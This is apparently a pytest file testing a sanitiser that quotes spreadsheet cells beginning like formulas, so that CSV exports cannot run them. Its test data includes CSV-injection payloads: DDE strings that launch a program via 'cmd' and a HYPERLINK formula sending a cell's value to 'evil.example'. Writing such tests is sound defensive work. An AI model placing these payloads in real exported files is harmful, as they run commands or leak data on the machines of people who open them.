"""Formulas in text: what a spreadsheet would run is quoted, everything else stays as it is."""

import csv
import io
from datetime import date

import pandas as pd
import pytest

from guidedrec_core.spreadsheets import harmless

FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "＝1+1",
    "-",
    "+",
)
PLAIN = ("Tent", "a=b", "1+1", "-5", "+0.5", "-1,234.5", "-3 %", "+1e5", "-.5", "'=1", "", " =1+1")


@pytest.mark.parametrize("dtype", ["str", "object"])
def test_text_that_begins_like_a_formula_is_quoted(dtype: str) -> None:
    frame = pd.DataFrame({"title": pd.Series([*FORMULAS, *PLAIN], dtype=dtype)})
    mended = harmless(frame)
    assert mended["title"].tolist() == [*(f"'{text}" for text in FORMULAS), *PLAIN]
    rows = harmless(pd.DataFrame({"title": ["\r=1+1", "a\r=1+1", "a\r\n=1"]}))["title"]
    assert rows.tolist() == ["'\n=1+1", "a\n=1+1", "a\n=1"]  # which CSV quotes: no row begins with =
    assert mended["title"].dtype == frame["title"].dtype
    assert frame["title"].tolist() == [*FORMULAS, *PLAIN]  # the caller's table is its own
    cells = [row[0] for row in csv.reader(io.StringIO(mended.to_csv(index=False)))][1:]
    assert not any(cell[:1] in ("=", "@", "\t", "\r", "\n") for cell in cells)


def test_what_is_no_text_stays_as_it_is() -> None:
    frame = pd.DataFrame(
        {
            "score": [-1.5, 2.0],
            "count": [-1, 2],
            "day": [date(2026, 1, 1), None],
            "list": [[1], None],
            "mixed": [-1, "=1"],
        }
    )
    frame["kind"] = pd.Categorical(["a", "b"])
    mended = harmless(frame)
    assert mended["mixed"].tolist() == [-1, "'=1"]
    pd.testing.assert_frame_equal(mended.drop(columns="mixed"), frame.drop(columns="mixed"))
    assert harmless(frame.drop(columns="mixed")).equals(frame.drop(columns="mixed"))


def test_a_table_without_formulas_is_handed_on() -> None:
    frame = pd.DataFrame({"title": ["Tent", None], "n": [1, 2]})
    assert harmless(frame) is frame
    assert harmless(frame.iloc[:0]).empty
    kinds = pd.DataFrame({"kind": pd.Categorical(["=1", "b"])})
    assert harmless(kinds)["kind"].tolist() == ["'=1", "b"]
    twice = pd.DataFrame([["=1", "=2"]], columns=["a", "a"])
    assert harmless(twice).to_numpy().tolist() == [["'=1", "'=2"]]
